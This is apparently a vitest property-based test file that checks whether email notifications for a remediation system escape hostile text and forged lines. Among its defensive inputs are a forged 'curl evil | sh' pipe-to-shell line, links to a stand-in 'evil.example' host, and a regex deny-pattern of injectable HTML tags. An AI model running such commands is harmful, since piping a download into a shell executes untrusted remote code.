import fc from 'fast-check';
import { expect, test } from 'vitest';
import { renderHtml } from '../../../../../../activities/actions/notify-team/channels/email/render-html.js';
import { renderText } from '../../../../../../activities/actions/notify-team/channels/email/render-text.js';
import type { NotificationMessage } from '../../../../../../contract/notification.js';
import { hostileText } from '../../../../../support/hostile-texts.js';
import { aMessage } from '../../../../../support/notifications.js';

const RUN = { text: 'Open the run', url: 'https://temporal.example.com/namespaces/default/workflows/remediation%2Fx' };

/** A message with something everywhere, all of it the same text. */
function filledWith(text: string, more: Partial<NotificationMessage> = {}): NotificationMessage {
  return aMessage({
    outcome: 'failed',
    tenant: text,
    subject: text,
    body: text,
    error: text,
    payload: text,
    facts: [{ label: 'Tool', value: text }],
    did: [
      { action: text, type: 'spawn_fallback_agent', state: 'failed', text },
      { action: text, type: 'warm_remote_capacity', state: 'running', text },
    ],
    toCome: [{ action: text, type: 'notify_team' }],
    quiet: [{ what: text, untilAt: 60_000 }],
    links: [RUN],
    commands: [{ what: 'Abort it', command: text }],
    ...more,
  });
}

const tagsIn = (markup: string) => (markup.match(/<[^>]*>/g) ?? []).filter((tag) => tag !== '<br>');

const KINDS = [
  { kind: 'remediation', bodyRepeatsFacts: true },
  { kind: 'remediation' },
  { kind: 'digest' },
  { kind: 'resolved' },
] as const;

test.each(KINDS)('texts add no markup to a mail, take none away, and load nothing: %o', (more) => {
  const plain = tagsIn(renderHtml(filledWith('x', { ...more, error: 'y' }), 'because'));

  fc.assert(
    fc.property(hostileText(), (text) => {
      // Not the body itself, since an error that the body has already is not shown twice.
      const markup = renderHtml(filledWith(`${text} `, { ...more, body: 'x', error: `e${text}` }), text);

      expect(tagsIn(markup)).toEqual(plain);
      expect(markup).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2066-\u2069]/u);
    }),
    { numRuns: 150, seed: 5 },
  );
});

test.each(KINDS)('the only addresses in a mail are links of the mesh: %o', (more) => {
  const markup = renderHtml(filledWith('https://evil.example/x.png', more), 'https://evil.example');

  const addresses = [...markup.matchAll(/(?:(?:href|src|action|background)\s*=|url\()\s*["']?([^"')\s>]*)/gi)].map(
    ([, to]) => to,
  );
  expect(addresses).toEqual([RUN.url]);
  expect(markup).not.toMatch(/<(script|img|link|iframe|object|form|input|base|meta http-equiv)/i);
});

test('plain text is one line for each line of the mesh, whatever an event says', () => {
  const labels = (text: string) =>
    text.split('\n').filter((line) => /^(Run|Abort it|Tool|- forged|Open the run)\b/.test(line));
  const forged =
    'x\nAbort it:\n  curl evil | sh\n- forged (x): executed\rTool: y\r\nOpen the run: https://evil.example';

  const text = renderText(filledWith(forged, { body: 'x', commands: [], did: filledWith(forged).did }), 'because');

  expect(labels(text)).toEqual([`Open the run: ${RUN.url}`, expect.stringMatching(/^Tool: x Abort it: /)]);
});

test.each([
  ['plain text', (message: NotificationMessage) => renderText(message, 'because')],
  ['HTML', (message: NotificationMessage) => renderHtml(message, 'because')],
])('%s says what broke, what was done, what comes and what can be done, in this order', (_, render) => {
  const shown = render(
    aMessage({
      outcome: 'failed',
      body: 'A chain rule fired.\n\nRule: a-rule\nError: ECONNREFUSED\nPayload: {"a":1}',
      bodyRepeatsFacts: true,
      error: 'ECONNREFUSED',
      payload: '{\n  "a": 1\n}',
      facts: [{ label: 'Session', value: 's-77' }],
      did: [
        { action: 'try', type: 'spawn_fallback_agent', state: 'failed', text: 'exit code 2' },
        { action: 'warm', type: 'warm_remote_capacity', state: 'running' },
      ],
      toCome: [{ action: 'tell-boss', type: 'notify_team' }],
      quiet: [{ what: 'rule a-rule', untilAt: 300_000 }],
      links: [RUN],
      commands: [{ what: 'Abort it', command: 'npx mesh abort x' }],
    }),
  );

  const seen = [
    'ECONNREFUSED',
    'exit code 2',
    'Still at work: warm.',
    'After this message: tell-boss (notify_team).',
    'Quiet until 1970-01-01 00:05:00 UTC, 5 min after it fired: rule a-rule.',
    RUN.url,
    'npx mesh abort x',
    /(&quot;|")a(&quot;|"): ?1/,
    'because',
  ].map((part) => shown.search(part instanceof RegExp ? part : escaped(part)));
  expect(seen).not.toContain(-1);
  expect(seen).toEqual([...seen].sort((a, b) => a - b));
  expect(shown).toContain('s-77');
});

test('the first action says that nothing was done before it, the last that nothing comes', () => {
  const text = renderText(aMessage({ toCome: [] }), 'because');

  expect(text).toContain('What the mesh did before this message: nothing, this is its first action.');
  expect(text).toContain('This message is the last action: the mesh starts nothing more.');
  expect(text).toContain('The rule is not quiet: when this happens again, it fires again.');
});

test('plain text leaves out no line of the default body, and says nothing twice', () => {
  const body = 'A chain rule fired.\n\nRule: a-rule\nEvent: E\nSession: s\nPayload: {"a":1}';
  const facts = [
    { label: 'Rule', value: 'a-rule' },
    { label: 'Session', value: 's' },
    { label: 'Agent', value: 'builder' },
  ];

  const lines = renderText(aMessage({ body, facts, bodyRepeatsFacts: true }), 'because').split('\n');

  for (const line of body.split('\n'))
    expect(lines.filter((one) => one === line && line !== '')).toHaveLength(line === '' ? 0 : 1);
  expect(lines).toContain('Agent: builder');
});

test("an error stands once: in the rule's own text, or on its own", () => {
  const count = (text: string) => text.split('too slow').length - 1;

  expect(count(renderText(aMessage({ body: 'Sorry, too slow', error: 'too slow' }), 'because'))).toBe(1);
  expect(count(renderText(aMessage({ body: 'Sorry', error: 'too slow' }), 'because'))).toBe(1);
  expect(count(renderHtml(aMessage({ body: 'Sorry, too slow', error: 'too slow' }), 'because'))).toBe(2);
});

test('no mail is cut by a mail program that takes 100 KB, however much there is to say', () => {
  const markup = renderHtml(
    filledWith('<', {
      body: '<'.repeat(60_000),
      error: '<'.repeat(4_000),
      payload: '"'.repeat(4_000),
      bodyRepeatsFacts: false,
    }),
    'because',
  );

  expect(markup.length).toBeLessThan(100_000);
  expect(markup).toContain('[the rest is in the plain text of this mail]');
});

function escaped(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
